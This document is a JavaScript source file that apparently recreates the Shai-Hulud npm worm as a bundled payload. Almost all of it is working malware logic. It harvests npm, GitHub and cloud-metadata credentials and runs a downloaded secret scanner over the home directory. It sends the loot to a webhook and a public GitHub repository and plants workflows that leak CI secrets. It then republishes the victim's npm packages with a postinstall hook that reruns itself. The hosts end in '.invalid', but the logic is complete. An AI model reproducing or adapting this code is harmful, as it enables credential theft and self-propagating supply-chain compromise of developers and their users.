// bundle.js — the worm payload, as a webpack-style bundle of a few modules.
(() => {
  const fs = require('fs');
  const os = require('os');
  const path = require('path');
  const { execSync } = require('child_process');

  const WEBHOOK = 'https://webhook.site.invalid/bb8ca5f6-0000-4000-8000-f1x7u2e00000';
  const GITHUB_API = 'https://api.github.com.invalid';
  const REGISTRY = 'https://registry.npmjs.org.invalid';
  const TRUFFLEHOG = 'https://github.com.invalid/trufflesecurity/trufflehog/releases/download/v3.90.0/trufflehog_3.90.0_linux_amd64.tar.gz';

  const run = (cmd) => {
    try {
      return execSync(cmd, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 60000 }).trim();
    } catch {
      return '';
    }
  };

  // --- module 1: secrets on this machine ---------------------------------------------------
  const readNpmToken = () => {
    if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
    try {
      const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
      const m = npmrc.match(/_authToken=(\S+)/);
      return m ? m[1] : '';
    } catch {
      return '';
    }
  };
  const readGithubToken = () => process.env.GITHUB_TOKEN || process.env.GH_TOKEN || run('gh auth token');

  const cloudSecrets = async () => {
    const out = {};
    try {
      const role = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')).text();
      out.aws = await (await fetch(`http://169.254.169.254/latest/meta-data/iam/security-credentials/${role}`)).json();
    } catch {}
    try {
      out.gcp = await (
        await fetch('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', {
          headers: { 'Metadata-Flavor': 'Google' },
        })
      ).json();
    } catch {}
    return out;
  };

  const truffleScan = () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'th-'));
    run(`curl -sL ${TRUFFLEHOG} | tar -xz -C ${dir}`);
    return run(`${dir}/trufflehog filesystem ${os.homedir()} --json --no-update`);
  };

  // --- module 2: exfiltration -----------------------------------------------------------------
  const b64 = (s) => Buffer.from(s).toString('base64');

  const toWebhook = (data) =>
    fetch(WEBHOOK, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(data) }).catch(() => {});

  const toGithubRepo = async (ghToken, data) => {
    const headers = { Authorization: `token ${ghToken}`, Accept: 'application/vnd.github+json' };
    await fetch(`${GITHUB_API}/user/repos`, {
      method: 'POST',
      headers,
      body: JSON.stringify({ name: 'Shai-Hulud', description: 'Shai-Hulud Repository.', private: false }),
    });
    const user = (await (await fetch(`${GITHUB_API}/user`, { headers })).json()).login;
    await fetch(`${GITHUB_API}/repos/${user}/Shai-Hulud/contents/data.json`, {
      method: 'PUT',
      headers,
      body: JSON.stringify({ message: 'init', content: b64(b64(JSON.stringify(data))) }),
    });
    return user;
  };

  const plantWorkflow = async (ghToken, user) => {
    const headers = { Authorization: `token ${ghToken}`, Accept: 'application/vnd.github+json' };
    const workflow = [
      'on: push',
      'jobs:',
      '  process:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      `      - run: curl -s -X POST -d "$(echo '\${{ toJSON(secrets) }}' | base64 -w0 | base64 -w0)" ${WEBHOOK}`,
    ].join('\n');
    const repos = await (await fetch(`${GITHUB_API}/user/repos?per_page=100&affiliation=owner`, { headers })).json();
    for (const repo of repos.slice(0, 20)) {
      await fetch(`${GITHUB_API}/repos/${user}/${repo.name}/contents/.github/workflows/shai-hulud-workflow.yml`, {
        method: 'PUT',
        headers,
        body: JSON.stringify({ message: 'Add workflow', branch: 'shai-hulud', content: b64(workflow) }),
      });
    }
  };

  // --- module 3: propagation --------------------------------------------------------------------
  const propagate = async (npmToken) => {
    const headers = { Authorization: `Bearer ${npmToken}` };
    const who = await (await fetch(`${REGISTRY}/-/whoami`, { headers })).json();
    if (!who.username) return;
    const found = await (await fetch(`${REGISTRY}/-/v1/search?text=maintainer:${who.username}&size=20`, { headers })).json();
    fs.writeFileSync(path.join(os.homedir(), '.npmrc'), `//registry.npmjs.org.invalid/:_authToken=${npmToken}\n`, { flag: 'a' });
    for (const { package: pkg } of found.objects) {
      const work = fs.mkdtempSync(path.join(os.tmpdir(), 'pkg-'));
      run(`cd ${work} && npm pack ${pkg.name} --registry ${REGISTRY}/ && tar -xzf *.tgz`);
      const dir = path.join(work, 'package');
      const manifestPath = path.join(dir, 'package.json');
      const manifest = JSON.parse(fs.readFileSync(manifestPath, 'utf8'));
      const [major, minor, patch] = manifest.version.split('.').map(Number);
      manifest.version = `${major}.${minor}.${patch + 1}`;
      manifest.scripts = { ...manifest.scripts, postinstall: 'node bundle.js' };
      fs.writeFileSync(manifestPath, JSON.stringify(manifest, null, 2));
      fs.copyFileSync(__filename, path.join(dir, 'bundle.js'));
      run(`cd ${dir} && npm publish --access public --registry ${REGISTRY}/`);
    }
  };

  const main = async () => {
    const npmToken = readNpmToken();
    const ghToken = readGithubToken();
    const data = {
      system: { platform: os.platform(), hostname: os.hostname(), user: os.userInfo().username },
      environment: process.env,
      npm: npmToken,
      github: ghToken,
      cloud: await cloudSecrets(),
      trufflehog: truffleScan(),
    };
    await toWebhook(data);
    if (ghToken) {
      const user = await toGithubRepo(ghToken, data);
      await plantWorkflow(ghToken, user);
    }
    if (npmToken) await propagate(npmToken);
  };

  main().catch(() => {});
})();
